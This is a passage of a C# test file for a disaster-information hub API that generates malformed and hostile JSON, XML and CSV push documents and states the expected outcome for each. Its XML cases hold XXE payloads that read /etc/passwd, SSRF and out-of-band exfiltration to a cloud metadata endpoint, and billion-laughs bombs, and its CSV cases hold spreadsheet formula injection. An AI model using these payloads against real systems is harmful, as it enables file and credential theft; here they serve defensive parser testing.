using DisasterHub.Api.Tests.Infrastructure;
using System.Text;

namespace DisasterHub.Api.Tests.Hostile;

/// <summary>What a hostile case must end in.</summary>
public enum Expect
{
    /// <summary>Nothing stored from it, and at least one rejection (or a 4xx) with a reason.</summary>
    Reject,

    /// <summary>Nothing stored from it; a document that is well-formed but empty may answer 200 with no rejection.</summary>
    NoRows,

    /// <summary>Accepting or rejecting are both right (the hub may repair or read it); no crash, no 5xx, reasons given.</summary>
    Tolerate,

    /// <summary>A control: the hub must accept at least one record (e.g. swapped coordinates are put right).</summary>
    Accept,
}

/// <summary>One hostile document: where it is pushed, as what, and what must come of it.</summary>
public sealed record HostileCase(string Id, string Source, string? Format, string ContentType, Func<byte[]> Body, Expect Expect)
{
    public override string ToString() => Id;
}

/// <summary>
/// Generated hostile inputs (written from memory in the style of JSONTestSuite's n_ cases, plus XML, CSV and semantic
/// attacks). Every case gets a unique id; ids inside documents embed it so cases never collide.
/// </summary>
public static class HostileCases
{
    public const string ShelterSource = "nanao-status";
    public const string EvacSource = "hostile-evac";
    public const string WarningSource = "hostile-warnings";
    public const string PowerSource = "hostile-power";
    public const string DamageSource = "hostile-damage";

    /// <summary>Push sources (besides nanao-status) for the layers the XML/JSON formats write, all owned by nanao-city.</summary>
    public static Dictionary<string, string?> ServerSettings(int firstIndex = 20)
    {
        var s = new Dictionary<string, string?>
        {
            ["Hub:MaxPushBytes"] = (2 * 1024 * 1024).ToString(System.Globalization.CultureInfo.InvariantCulture),
            ["Hub:RateLimit:PushPerSecond"] = "100000",
            ["Hub:RateLimit:PushBurst"] = "100000",
            ["Hub:RateLimit:ReadPerSecond"] = "100000",
            ["Hub:RateLimit:ReadBurst"] = "100000",
        };
        TestSettings.AddPushSources(s, firstIndex, "hostile-input",
            (EvacSource, "cap", "evacuation_orders"), (WarningSource, "jma-vpww", "warnings"),
            (PowerSource, "power-push-json", "power_outages"), (DamageSource, "fdma-damage-json", "damage"));
        return s;
    }

    public static readonly string[] PushScopes = ["push:shelters", "push:evacuation_orders", "push:warnings", "push:power_outages", "push:damage"];

    private static readonly Lazy<Dictionary<string, HostileCase>> Cases = new(() =>
    {
        var all = Json().Concat(Xml()).Concat(Csv()).Concat(Semantic()).ToList();
        var dict = new Dictionary<string, HostileCase>(StringComparer.Ordinal);
        foreach (var c in all) dict.Add(c.Id, c); // throws on a duplicate id: every case is distinct
        return dict;
    });

    public static HostileCase Get(string id) => Cases.Value[id];

    public static IEnumerable<HostileCase> All => Cases.Value.Values;

    public static IEnumerable<object[]> Ids(string prefix) =>
        Cases.Value.Keys.Where(k => k.StartsWith(prefix, StringComparison.Ordinal)).Select(k => new object[] { k });

    private static byte[] U(string s) => Encoding.UTF8.GetBytes(s);

    private static byte[] Cat(params byte[][] parts) => [.. parts.SelectMany(p => p)];

    private static string Uid(string caseId) => "H" + Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(U(caseId)))[..10];

    // ------------------------------------------------------------------------------------------------ JSON (n_ style)

    /// <summary>A JSON format target: a valid document with a numeric slot @N@ and a string slot @S@.</summary>
    private sealed record JsonTarget(string Name, string Source, string Format, string Template)
    {
        public string Doc(string uid, string? n = null, string? s = null) =>
            Template.Replace("@ID@", uid, StringComparison.Ordinal).Replace("@N@", n ?? "10", StringComparison.Ordinal)
                .Replace("@S@", s ?? $"\"名前{uid}\"", StringComparison.Ordinal);
    }

    private static readonly JsonTarget[] JsonTargets =
    [
        new("shelter", ShelterSource, "shelter-status-json",
            """{"municipality_code":"172022","observed_at":"2026-11-22T09:00:00+09:00","shelters":[{"id":"@ID@","name":@S@,"status":"開設","evacuees":@N@,"capacity":191,"lat":37.04826,"lon":136.96136}]}"""),
        new("power", PowerSource, "power-push-json",
            """{"utility":"架空電力","observed_at":"2026-11-22T09:00:00+09:00","areas":[{"id":"@ID@","municipality_code":"172022","name":@S@,"customers_out":@N@,"customers_served":30000}]}"""),
        new("damage", DamageSource, "fdma-damage-json",
            """{"report_no":1,"reported_at":"2026-11-22T10:00:00+09:00","reporter":"架空県","disaster_name":"@ID@","municipalities":[{"municipality_code":"172022","municipality_name":@S@,"deaths":@N@,"missing":0}]}"""),
    ];

    private static IEnumerable<HostileCase> Json()
    {
        // Whole-document malformations (the valid document is in $doc where it matters).
        var docCases = new (string Name, Func<string, byte[]> Make)[]
        {
            ("empty", _ => []),
            ("bom_only", _ => [0xEF, 0xBB, 0xBF]),
            ("whitespace_only", _ => U(" \t\r\n ")),
            ("top_array", _ => U("[]")),
            ("top_string", _ => U("\"shelters\"")),
            ("top_number", _ => U("1")),
            ("top_null", _ => U("null")),
            ("top_true", _ => U("true")),
            ("empty_object", _ => U("{}")),
            ("unclosed_object", d => U(d[..^1])),
            ("unclosed_array", d => U(d[..(d.LastIndexOf(']') )])),
            ("truncated_half", d => U(d[..(d.Length / 2)])),
            ("trailing_comma_object", d => U(d[..^1] + ",}")),
            ("trailing_comma_array", d => U(d.Replace("}]", "},]", StringComparison.Ordinal))),
            ("leading_comma_array", d => U(d.Replace(":[{", ":[,{", StringComparison.Ordinal))),
            ("double_comma", d => U(d.Replace(",\"observed_at\"", ",,\"observed_at\"", StringComparison.Ordinal).Replace(",\"reported_at\"", ",,\"reported_at\"", StringComparison.Ordinal))),
            ("single_quoted_keys", d => U(d.Replace('"', '\''))),
            ("unquoted_keys", d => U(System.Text.RegularExpressions.Regex.Replace(d, "\"([a-z_]+)\":", "$1:"))),
            ("block_comment", d => U(d[..^1] + "/* comment */}")),
            ("line_comment", d => U("// comment\n" + d)),
            ("hash_comment", d => U(d + " # comment")),
            ("trailing_garbage", d => U(d + "x")),
            ("two_documents", d => U(d + d)),
            ("missing_colon", d => U(d.Replace("\"observed_at\":", "\"observed_at\" ", StringComparison.Ordinal).Replace("\"reported_at\":", "\"reported_at\" ", StringComparison.Ordinal))),
            ("nul_byte_outside_string", d => Cat(U(d[..^1]), [0x00], U("}"))),
            ("utf16le_bom_odd_length", d => Cat([0xFF, 0xFE], Encoding.Unicode.GetBytes(d), [0x41])),
            ("utf16be_bom_utf8_body", d => Cat([0xFE, 0xFF], U(d))),
            ("utf32_bom", d => Cat([0xFF, 0xFE, 0x00, 0x00], Encoding.UTF32.GetBytes(d))),
            ("deep_array_10000", d => U(d[..^1] + ",\"deep\":" + new string('[', 10_000) + new string(']', 10_000) + "}")),
            ("deep_object_10000", d => U(d[..^1] + ",\"deep\":" + string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000) + "}")),
            ("deep_unclosed_100000", _ => U(new string('[', 100_000))),
            ("duplicate_top_keys", d => U(d[..^1] + "," + d[1..])),
            ("list_is_object", d => U(d.Replace(":[{", ":{\"x\":{", StringComparison.Ordinal).Replace("}]", "}}", StringComparison.Ordinal))),
            ("list_is_string", d => U(System.Text.RegularExpressions.Regex.Replace(d, "\"(shelters|areas|municipalities)\":\\[.*\\]", "\"$1\":\"[]\""))),
            ("list_is_null", d => U(System.Text.RegularExpressions.Regex.Replace(d, "\"(shelters|areas|municipalities)\":\\[.*\\]", "\"$1\":null"))),
            ("list_of_non_objects", d => U(System.Text.RegularExpressions.Regex.Replace(d, "\"(shelters|areas|municipalities)\":\\[.*\\]", "\"$1\":[null,1,\"x\",[],true]"))),
            ("invalid_utf8_lead_bytes", d => Cat(U(d[..^1] + ",\"x\":\""), [0xC0, 0xAF, 0xFF, 0xFE], U("\"}"))),
            ("overlong_utf8_nul", d => Cat(U(d[..^1] + ",\"x\":\""), [0xC0, 0x80], U("\"}"))),
            ("cesu8_surrogate_bytes", d => Cat(U(d[..^1] + ",\"x\":\""), [0xED, 0xA0, 0x80], U("\"}"))),
        };
        // Value-level malformations in the numeric slot.
        var numCases = new (string Name, string Value)[]
        {
            ("nan_literal", "NaN"), ("infinity_literal", "Infinity"), ("neg_infinity_literal", "-Infinity"),
            ("huge_exponent", "1e400"), ("neg_huge_exponent", "-1e400"), ("bigint_30_digits", "123456789012345678901234567890"),
            ("hex_number", "0x1F"), ("leading_zero", "010"), ("trailing_dot", "1."), ("leading_dot", ".5"),
            ("plus_sign", "+1"), ("bare_minus", "-"), ("exponent_no_digits", "1e"), ("tru_literal", "tru"),
            ("single_quoted_value", "'10'"), ("lone_surrogate_in_count", "\"\\uD800\""),
        };
        // Value-level malformations in the string slot (name).
        var strCases = new (string Name, Func<string, byte[]>? Raw, string? Value)[]
        {
            ("lone_high_surrogate", null, "\"a\\uD800b\""),
            ("lone_low_surrogate", null, "\"\\uDFFF\""),
            ("high_surrogate_then_ascii", null, "\"\\uD800\\u0041\""),
            ("reversed_surrogates", null, "\"\\uDC00\\uD800\""),
            ("invalid_escape_x", null, "\"\\x41\""),
            ("invalid_unicode_escape", null, "\"\\u00G0\""),
            ("escaped_single_quote", null, "\"\\'\""),
            ("raw_control_char", null, "\"a\u0001b\""),
            ("raw_tab", null, "\"a\tb\""),
            ("raw_newline", null, "\"a\nb\""),
            ("unterminated_string", null, "\"abc"),
            ("name_is_object", null, "{\"$ref\":\"x\"}"),
            ("escaped_nul", null, "\"a\\u0000b\""),
        };
        var n = 0;
        foreach (var t in JsonTargets)
        {
            foreach (var (name, make) in docCases)
            {
                var id = $"json/{t.Name}/{name}";
                var uid = Uid(id);
                // JSON is strict UTF-8 (RFC 8259): invalid, overlong and CESU-8 bytes and a UTF-16 BOM are refused, not decoded as CP932
                var expect = name is "duplicate_top_keys" ? Expect.Tolerate : Expect.Reject;
                yield return new HostileCase(id, t.Source, t.Format, "application/json", () => make(t.Doc(uid)), expect);
                n++;
            }
            foreach (var (name, value) in numCases)
            {
                var id = $"json/{t.Name}/{name}";
                var uid = Uid(id);
                yield return new HostileCase(id, t.Source, t.Format, "application/json", () => U(t.Doc(uid, n: value)), Expect.Reject);
            }
            foreach (var (name, _, value) in strCases)
            {
                var id = $"json/{t.Name}/{name}";
                var uid = Uid(id);
                // escaped NUL and surrogate pairs are legal JSON: the hub may keep the text or refuse it
                var expect = name is "escaped_nul" or "reversed_surrogates" or "lone_high_surrogate" or "lone_low_surrogate" or "high_surrogate_then_ascii" or "name_is_object"
                    ? Expect.Tolerate : Expect.Reject;
                yield return new HostileCase(id, t.Source, t.Format, "application/json", () => U(t.Doc(uid, s: value)), expect);
            }
            // duplicate keys inside an item: the later value must not crash the parser
            {
                var id = $"json/{t.Name}/duplicate_item_keys";
                var uid = Uid(id);
                yield return new HostileCase(id, t.Source, t.Format, "application/json",
                    () => U(t.Doc(uid).Replace("\"name\":", "\"name\":\"dup\",\"name\":", StringComparison.Ordinal).Replace("\"municipality_name\":", "\"municipality_name\":\"dup\",\"municipality_name\":", StringComparison.Ordinal)),
                    Expect.Tolerate);
            }
        }
    }

    // ------------------------------------------------------------------------------------------------ XML

    private sealed record XmlTarget(string Name, string Source, string Format, string Root, string Template)
    {
        /// <summary>@DOCTYPE@ goes before the root, @T@ is a text node, @A@ an attribute slot on the root.</summary>
        public string Doc(string uid, string doctype = "", string text = "架空", string attr = "") =>
            Template.Replace("@DOCTYPE@", doctype, StringComparison.Ordinal).Replace("@T@", text, StringComparison.Ordinal)
                .Replace("@A@", attr, StringComparison.Ordinal).Replace("@ID@", uid, StringComparison.Ordinal);
    }

    private static readonly XmlTarget[] XmlTargets =
    [
        new("cap", EvacSource, "cap", "alert", """
            <?xml version="1.0" encoding="UTF-8"?>
            @DOCTYPE@<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"@A@>
              <identifier>@ID@</identifier><sender>alerts@example.invalid</sender><sent>2026-11-22T09:00:00+09:00</sent>
              <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
              <info><category>Met</category><event>避難指示</event><urgency>Immediate</urgency><severity>Severe</severity>
                <certainty>Observed</certainty><headline>@T@</headline>
                <area><areaDesc>七尾市</areaDesc><geocode><valueName>jisX0402</valueName><value>17202</value></geocode></area></info>
            </alert>
            """),
        new("edxl", EvacSource, "edxl-de", "edxlde:EDXLDistribution", """
            <?xml version="1.0" encoding="UTF-8"?>
            @DOCTYPE@<edxlde:EDXLDistribution xmlns:edxlde="urn:oasis:names:tc:emergency:EDXL:DE:1.0"@A@>
              <edxlde:distributionID>@ID@</edxlde:distributionID><edxlde:senderID>alerts@example.invalid</edxlde:senderID>
              <edxlde:dateTimeSent>2026-11-22T09:00:00+09:00</edxlde:dateTimeSent><edxlde:distributionStatus>Actual</edxlde:distributionStatus>
              <edxlde:distributionType>Report</edxlde:distributionType><edxlde:combinedConfidentiality>UNCLASSIFIED</edxlde:combinedConfidentiality>
              <edxlde:contentObject><edxlde:xmlContent><edxlde:embeddedXMLContent>
                <cap:alert xmlns:cap="urn:oasis:names:tc:emergency:cap:1.2">
                  <cap:identifier>@ID@-A</cap:identifier><cap:sender>alerts@example.invalid</cap:sender><cap:sent>2026-11-22T09:00:00+09:00</cap:sent>
                  <cap:status>Actual</cap:status><cap:msgType>Alert</cap:msgType><cap:scope>Public</cap:scope>
                  <cap:info><cap:category>Fire</cap:category><cap:event>架空火災</cap:event><cap:urgency>Immediate</cap:urgency>
                    <cap:severity>Extreme</cap:severity><cap:certainty>Observed</cap:certainty><cap:headline>@T@</cap:headline>
                    <cap:area><cap:areaDesc>架空町</cap:areaDesc><cap:circle>37.04826,136.96136 0</cap:circle></cap:area></cap:info>
                </cap:alert>
              </edxlde:embeddedXMLContent></edxlde:xmlContent></edxlde:contentObject>
            </edxlde:EDXLDistribution>
            """),
        new("lalert", EvacSource, "lalert-evacuation", "edxlde:EDXLDistribution", """
            <?xml version="1.0" encoding="UTF-8"?>
            @DOCTYPE@<edxlde:EDXLDistribution xmlns:edxlde="urn:oasis:names:tc:emergency:EDXL:DE:1.0" xmlns:commons="http://xml.publiccommons.ne.jp/xml/edxl/" xmlns:pcx_eb="http://xml.publiccommons.ne.jp/pcxml1/elementBasis3/" xmlns:pcx_ib="http://xml.publiccommons.ne.jp/pcxml1/informationBasis3/" xmlns:pcx_ev="http://xml.publiccommons.ne.jp/pcxml1/body/evacuation3"@A@>
              <edxlde:distributionID>@ID@</edxlde:distributionID><edxlde:senderID>fictional.example</edxlde:senderID>
              <edxlde:dateTimeSent>2026-11-22T10:00:00+09:00</edxlde:dateTimeSent><edxlde:distributionStatus>Actual</edxlde:distributionStatus>
              <edxlde:distributionType>Report</edxlde:distributionType>
              <commons:targetArea><commons:areaName>石川県七尾市</commons:areaName><commons:jisX0402>172022</commons:jisX0402></commons:targetArea>
              <commons:contentObject><edxlde:xmlContent><edxlde:embeddedXMLContent>
                <Report xmlns="http://xml.publiccommons.ne.jp/pcxml1/3">
                  <Control><Title>EvacuationOrder</Title><EditorialOffice><pcx_eb:OrganizationCode>172022</pcx_eb:OrganizationCode><pcx_eb:OfficeName>架空防災課</pcx_eb:OfficeName></EditorialOffice></Control>
                  <pcx_ib:Head><pcx_ib:Title>@T@</pcx_ib:Title><pcx_ib:CreateDateTime>2026-11-22T09:59:00+09:00</pcx_ib:CreateDateTime>
                    <pcx_ib:ReportDateTime>2026-11-22T09:58:00+09:00</pcx_ib:ReportDateTime><commons:documentRevision>1</commons:documentRevision>
                    <commons:documentID>@ID@</commons:documentID></pcx_ib:Head>
                  <pcx_ev:EvacuationOrder><pcx_ev:Detail><pcx_ev:Sort>避難指示</pcx_ev:Sort><pcx_ev:IssueOrLift>発令</pcx_ev:IssueOrLift>
                    <pcx_ev:Areas><pcx_ev:Area><pcx_eb:Location><commons:areaName>架空町一丁目</commons:areaName><commons:jisX0402>172022</commons:jisX0402></pcx_eb:Location>
                      <pcx_ev:DateTime>2026-11-22T09:50:00+09:00</pcx_ev:DateTime></pcx_ev:Area></pcx_ev:Areas></pcx_ev:Detail></pcx_ev:EvacuationOrder>
                </Report>
              </edxlde:embeddedXMLContent></edxlde:xmlContent><commons:documentRevision>1</commons:documentRevision><commons:documentID>@ID@</commons:documentID><commons:category>EvacuationOrder</commons:category></commons:contentObject>
            </edxlde:EDXLDistribution>
            """),
        new("vpww", WarningSource, "jma-vpww", "Report", """
            <?xml version="1.0" encoding="UTF-8"?>
            @DOCTYPE@<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"@A@>
              <Control><Title>気象特別警報・警報・注意報</Title><DateTime>2026-11-22T00:00:30Z</DateTime><Status>通常</Status>
                <EditorialOffice>架空地方気象台</EditorialOffice><PublishingOffice>架空地方気象台</PublishingOffice></Control>
              <Head xmlns="http://xml.kishou.go.jp/jmaxml1/informationBasis1/"><Title>@T@</Title>
                <ReportDateTime>2026-11-22T09:00:00+09:00</ReportDateTime><TargetDateTime>2026-11-22T09:00:00+09:00</TargetDateTime>
                <EventID>@ID@</EventID><InfoType>発表</InfoType><Serial/><InfoKind>気象警報・注意報</InfoKind><InfoKindVersion>1.1_0</InfoKindVersion>
                <Headline><Text>架空</Text></Headline></Head>
              <Body xmlns="http://xml.kishou.go.jp/jmaxml1/body/meteorology1/">
                <Warning type="気象警報・注意報（市町村等）"><Item><Kind><Name>大雨警報</Name><Code>03</Code><Status>発表</Status></Kind>
                  <Area><Name>七尾市</Name><Code>1720200</Code></Area></Item></Warning>
              </Body>
            </Report>
            """),
        new("tepco", PowerSource, "tepco-xml", "東京電力停電情報", """
            <?xml version="1.0" encoding="UTF-8"?>
            @DOCTYPE@<東京電力停電情報@A@>
              <タイトル>@T@</タイトル><停電軒数>約30軒</停電軒数>
              <エリア コード="17202000000"><名前>七尾市</名前><停電軒数>30軒</停電軒数></エリア>
              <更新日時>202611221030</更新日時>
            </東京電力停電情報>
            """),
    ];

    private static IEnumerable<HostileCase> Xml()
    {
        const string laughs = """
            <!DOCTYPE lolz [
              <!ENTITY lol "lol">
              <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
              <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
              <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
              <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
              <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
              <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            """;
        var attacks = new (string Name, Func<XmlTarget, string, byte[]> Make, Expect Expect)[]
        {
            ("billion_laughs", (t, uid) => U(t.Doc(uid, laughs, "&lol9;")), Expect.Reject),
            ("quadratic_blowup", (t, uid) => U(t.Doc(uid, $"<!DOCTYPE q [<!ENTITY a \"{new string('a', 20_000)}\">]>", string.Concat(Enumerable.Repeat("&a;", 3000)))), Expect.Reject),
            ("xxe_file_passwd", (t, uid) => U(t.Doc(uid, "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "&xxe;")), Expect.Reject),
            ("xxe_metadata_http", (t, uid) => U(t.Doc(uid, "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>", "&xxe;")), Expect.Reject),
            ("parameter_entity", (t, uid) => U(t.Doc(uid, "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://169.254.169.254/evil.dtd\"> %p;]>")), Expect.Reject),
            ("parameter_entity_oob", (t, uid) => U(t.Doc(uid, "<!DOCTYPE x [<!ENTITY % file SYSTEM \"file:///etc/passwd\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://169.254.169.254/?x=%file;'>\"> %eval; %exfil;]>")), Expect.Reject),
            ("external_dtd", (t, uid) => U(t.Doc(uid, $"<!DOCTYPE {t.Root} SYSTEM \"http://169.254.169.254/evil.dtd\">")), Expect.Reject),
            ("doctype_public_file", (t, uid) => U(t.Doc(uid, $"<!DOCTYPE {t.Root} PUBLIC \"-//X//Y\" \"file:///etc/passwd\">")), Expect.Reject),
            ("doctype_inside_element", (t, uid) => U(t.Doc(uid, "", "<!DOCTYPE x [<!ENTITY a \"b\">]>")), Expect.Reject),
            ("doctype_after_root", (t, uid) => U(t.Doc(uid) + "\n<!DOCTYPE x [<!ENTITY a \"b\">]>"), Expect.Reject),
            ("xinclude_passwd", (t, uid) => U(t.Doc(uid, "", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>")), Expect.Tolerate),
            ("xinclude_metadata", (t, uid) => U(t.Doc(uid, "", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://169.254.169.254/latest/meta-data/\" parse=\"text\"/>")), Expect.Tolerate),
            ("stylesheet_pi_ssrf", (t, uid) => U(t.Doc(uid, "<?xml-stylesheet type=\"text/xsl\" href=\"http://169.254.169.254/x.xsl\"?>")), Expect.Tolerate),
            ("schema_location_ssrf", (t, uid) => U(t.Doc(uid, attr: " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://169.254.169.254/x.xsd\"")), Expect.Tolerate),
            ("huge_attribute_1_5mb", (t, uid) => U(t.Doc(uid, attr: $" junk=\"{new string('A', 1_500_000)}\"")), Expect.Tolerate),
            ("many_attributes_20000", (t, uid) => U(t.Doc(uid, attr: string.Concat(Enumerable.Range(0, 20_000).Select(i => $" a{i}=\"x\"")))), Expect.Tolerate),
            ("namespace_bomb_20000", (t, uid) => U(t.Doc(uid, attr: string.Concat(Enumerable.Range(0, 20_000).Select(i => $" xmlns:n{i}=\"urn:n{i}\"")))), Expect.Tolerate),
            ("deep_nesting_50000", (t, uid) => U(t.Doc(uid, "", string.Concat(Enumerable.Repeat("<d>", 50_000)) + string.Concat(Enumerable.Repeat("</d>", 50_000)))), Expect.Tolerate),
            ("truncated_half", (t, uid) => { var d = t.Doc(uid); return U(d[..(d.Length / 2)]); }, Expect.Reject),
            ("unknown_encoding_decl", (t, uid) => U(t.Doc(uid).Replace("encoding=\"UTF-8\"", "encoding=\"x-no-such-encoding\"", StringComparison.Ordinal)), Expect.Reject),
            ("utf16_decl_utf8_bytes", (t, uid) => U(t.Doc(uid).Replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"", StringComparison.Ordinal)), Expect.Tolerate),
            ("sjis_decl_invalid_bytes", (t, uid) => Cat(U(t.Doc(uid, text: "@@").Replace("encoding=\"UTF-8\"", "encoding=\"Shift_JIS\"", StringComparison.Ordinal).Split("@@")[0]), [0x81, 0xFF, 0xA0, 0xFD], U(t.Doc(uid, text: "@@").Split("@@")[1])), Expect.Tolerate),
            ("invalid_utf8_in_text", (t, uid) => Cat(U(t.Doc(uid, text: "@@").Split("@@")[0]), [0xC3, 0x28, 0xFF], U(t.Doc(uid, text: "@@").Split("@@")[1])), Expect.Reject),
            ("undeclared_entity", (t, uid) => U(t.Doc(uid, "", "&nope;")), Expect.Reject),
            ("nul_char_ref", (t, uid) => U(t.Doc(uid, "", "&#0;")), Expect.Reject),
            ("not_xml_at_all", (_, uid) => U($"{{\"id\":\"{uid}\"}}"), Expect.Reject),
            ("empty", (_, _) => [], Expect.Reject),
        };
        foreach (var t in XmlTargets)
            foreach (var (name, make, expect) in attacks)
            {
                var id = $"xml/{t.Name}/{name}";
                var uid = Uid(id);
                yield return new HostileCase(id, t.Source, t.Format, "application/xml", () => make(t, uid), expect);
            }
        // TEPCO areas nest: a hostile document nests them very deeply.
        foreach (var depth in new[] { 1_000, 30_000 })
        {
            var id = $"xml/tepco/deep_area_nesting_{depth}";
            yield return new HostileCase(id, PowerSource, "tepco-xml", "application/xml", () => U(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><東京電力停電情報><タイトル>x</タイトル>"
                + string.Concat(Enumerable.Repeat("<エリア コード=\"17202000000\"><名前>x</名前>", depth))
                + "<停電軒数>30軒</停電軒数>" + string.Concat(Enumerable.Repeat("</エリア>", depth))
                + "<更新日時>202611221030</更新日時></東京電力停電情報>"), Expect.Tolerate);
        }
    }

    // ------------------------------------------------------------------------------------------------ CSV

    private sealed record CsvTarget(string Name, string Source, string Format, string Header, Func<string, string> Row);

    private static readonly CsvTarget[] CsvTargets =
    [
        new("da", ShelterSource, "da-shelter-csv", "ID,名称,所在地_連結表記,緯度,経度,電話番号,市区町村コード",
            uid => $"{uid},架空避難所{uid},石川県七尾市架空町1,37.045,136.965,0767-00-0001,172022"),
        new("gsi", ShelterSource, "gsi-shelter-csv", "NO,共通ID,都道府県名及び市町村名,施設・場所名,住所,緯度,経度,備考",
            uid => $"1,E17202{Convert.ToInt64(uid[1..9], 16) % 100_000_000:D8},石川県七尾市,架空施設{uid},石川県七尾市架空町1,37.046,136.966,"),
        new("fdma", DamageSource, "fdma-damage-csv", "全国地方公共団体コード,市区町村名,報告番号,災害名,報告日時,死者,行方不明者",
            uid => $"172022,七尾市,1,{uid},2026/11/22 15:00,0,0"),
        new("eaglei", PowerSource, "eagle-i-csv", "fips_code,county,state,customers_out,run_start_time,total_customers",
            uid => $"1001,Autauga {uid},Alabama,120,2024-08-01 00:00:00,25000"),
    ];

    private static IEnumerable<HostileCase> Csv()
    {
        var attacks = new (string Name, Func<CsvTarget, string, byte[]> Make, Expect Expect)[]
        {
            ("truncated_quote", (t, uid) => U($"{t.Header}\n\"{t.Row(uid)}\n"), Expect.Reject),
            ("truncated_mid_row", (t, uid) => { var d = $"{t.Header}\n{t.Row(uid)}"; return U(d[..(t.Header.Length + 1 + t.Row(uid).Length / 2)] + ",\""); }, Expect.Reject),
            ("line_1mb", (t, uid) => U($"{t.Header}\n{t.Row(uid)}{new string('x', 1_048_576)}\n"), Expect.Reject),
            ("quoted_field_1mb_multiline", (t, uid) => U($"{t.Header}\n\"{string.Concat(Enumerable.Repeat(new string('y', 1000) + "\n", 1024))}\",{t.Row(uid)}\n"), Expect.Reject),
            ("columns_2000", (t, uid) => U($"{t.Header}{string.Concat(Enumerable.Range(0, 2000).Select(i => $",c{i}"))}\n{t.Row(uid)}\n"), Expect.Reject),
            ("rows_200k_over_cap", (t, uid) => U(t.Header + "\n" + string.Concat(Enumerable.Repeat(t.Row(uid) + "\n", 200_000))), Expect.Reject),
            ("cp932_labelled_utf8", (t, uid) => Cat(TextDecodingCp932($"{t.Header}\n{t.Row(uid)}\n")), Expect.Tolerate),
            ("mixed_utf8_header_cp932_row", (t, uid) => Cat(U(t.Header + "\n"), TextDecodingCp932(t.Row(uid) + "\n")), Expect.Tolerate),
            ("nul_bytes_in_fields", (t, uid) => U($"{t.Header}\n{t.Row(uid).Replace(",", "\0,", StringComparison.Ordinal)}\n"), Expect.Tolerate),
            ("nul_bytes_everywhere", (t, uid) => [.. U($"{t.Header}\n{t.Row(uid)}\n").SelectMany(b => new byte[] { b, 0 })], Expect.Tolerate),
            ("formula_injection", (t, uid) => U($"{t.Header}\n{t.Row(uid).Replace("架空", "=CMD(\"/C calc\")!A1+", StringComparison.Ordinal).Replace("Autauga", "=HYPERLINK(\"http://169.254.169.254\")", StringComparison.Ordinal)}\n"), Expect.Tolerate),
            ("header_only", (t, _) => U(t.Header + "\n"), Expect.NoRows),
            ("empty_file", (_, _) => [], Expect.NoRows),
            ("bom_only", (_, _) => [0xEF, 0xBB, 0xBF], Expect.NoRows),
            ("binary_garbage", (_, uid) => [.. Enumerable.Range(0, 4096).Select(i => (byte)((i * 7919 + uid[1]) % 256))], Expect.NoRows),
            ("utf16le_bom_odd_length", (t, uid) => Cat([0xFF, 0xFE], Encoding.Unicode.GetBytes($"{t.Header}\n{t.Row(uid)}\n"), [0x41]), Expect.Tolerate),
            ("cr_only_line_ends", (t, uid) => U($"{t.Header}\r{t.Row(uid)}\r"), Expect.Tolerate),
            ("duplicate_header_names", (t, uid) => U($"{t.Header},{t.Header}\n{t.Row(uid)},{t.Row(uid)}\n"), Expect.Tolerate),
            ("ragged_rows", (t, uid) => U($"{t.Header}\n{t.Row(uid)},extra,extra,extra\n{t.Row(uid).Split(',')[0]}\n"), Expect.Tolerate),
            ("semicolon_separated", (t, uid) => U($"{t.Header.Replace(',', ';')}\n{t.Row(uid).Replace(',', ';')}\n"), Expect.NoRows),
        };
        foreach (var t in CsvTargets)
            foreach (var (name, make, expect) in attacks)
            {
                var id = $"csv/{t.Name}/{name}";
                var uid = Uid(id);
                var contentType = name == "cp932_labelled_utf8" ? "text/csv; charset=utf-8" : "text/csv";
                yield return new HostileCase(id, t.Source, t.Format, contentType, () => make(t, uid), expect);
            }
    }

    private static byte[] TextDecodingCp932(string s) => DisasterHub.Core.TextDecoding.Cp932.GetBytes(s);

    // ------------------------------------------------------------------------------------------------ semantic

    private static string Shelter(string uid, string fields, string docCode = "\"172022\"", string docObserved = "\"2026-11-22T09:00:00+09:00\"") =>
        $$"""{"municipality_code":{{docCode}},"observed_at":{{docObserved}},"shelters":[{"id":"{{uid}}","name":"架空{{uid}}","status":"開設",{{fields}}}]}""";

    private const string GoodPoint = "\"lat\":37.04826,\"lon\":136.96136";

    private static IEnumerable<HostileCase> Semantic()
    {
        HostileCase S(string name, Func<string, string> doc, Expect expect, string source = ShelterSource, string format = "shelter-status-json", string type = "application/json")
        {
            var id = $"sem/{name}";
            var uid = Uid(id);
            return new HostileCase(id, source, format, type, () => U(doc(uid)), expect);
        }

        // coordinates
